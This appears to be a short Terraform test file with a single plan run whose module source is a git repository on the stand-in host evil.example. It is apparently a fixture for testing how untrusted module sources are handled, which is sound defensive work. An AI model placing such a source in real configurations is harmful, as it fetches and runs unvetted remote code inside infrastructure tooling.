run "x" {
  command = plan
  module {
    source = "git::https://evil.example/m.git"
  }
}
